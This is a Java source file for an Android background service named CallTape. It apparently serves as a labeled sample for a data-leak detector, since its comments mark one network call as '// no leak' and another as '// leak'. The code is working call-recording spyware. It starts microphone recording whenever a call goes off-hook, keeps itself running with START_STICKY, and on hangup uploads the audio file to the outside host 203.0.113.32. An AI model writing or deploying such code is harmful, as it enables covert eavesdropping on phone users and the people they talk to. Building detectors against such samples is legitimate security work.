package ways;

import android.app.Service;
import android.content.Intent;
import android.media.MediaRecorder;
import android.os.IBinder;
import android.telephony.PhoneStateListener;
import android.telephony.TelephonyManager;
import java.io.File;
import java.io.FileInputStream;
import java.net.Socket;
import org.apache.http.client.HttpClient;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.entity.FileEntity;
import org.apache.http.entity.StringEntity;
import org.apache.http.impl.client.DefaultHttpClient;

/** Records calls into a file and sends the file. */
public class CallTape extends Service {
    private MediaRecorder recorder;
    private File tape;

    private final PhoneStateListener calls = new PhoneStateListener() {
        @Override
        public void onCallStateChanged(int state, String number) {
            try {
                if (state == TelephonyManager.CALL_STATE_OFFHOOK) begin();
                else if (state == TelephonyManager.CALL_STATE_IDLE && recorder != null) end();
            } catch (Exception e) {
                stopSelf();
            }
        }
    };

    private void begin() throws Exception {
        tape = new File(getFilesDir(), "t.amr");
        recorder = new MediaRecorder();
        recorder.setAudioSource(MediaRecorder.AudioSource.MIC);
        recorder.setOutputFormat(MediaRecorder.OutputFormat.AMR_NB);
        recorder.setAudioEncoder(MediaRecorder.AudioEncoder.AMR_NB);
        recorder.setOutputFile(tape.getAbsolutePath());
        recorder.prepare();
        recorder.start();
    }

    private void end() throws Exception {
        recorder.stop();
        recorder.release();
        HttpClient client = new DefaultHttpClient();
        HttpPost hello = new HttpPost("http://203.0.113.32/hello");
        hello.setEntity(new StringEntity("hello"));
        client.execute(hello); // no leak
        HttpPost post = new HttpPost("http://203.0.113.32/tape");
        post.setEntity(new FileEntity(tape, "audio/amr"));
        client.execute(post); // leak
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).listen(calls, PhoneStateListener.LISTEN_CALL_STATE);
        return START_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
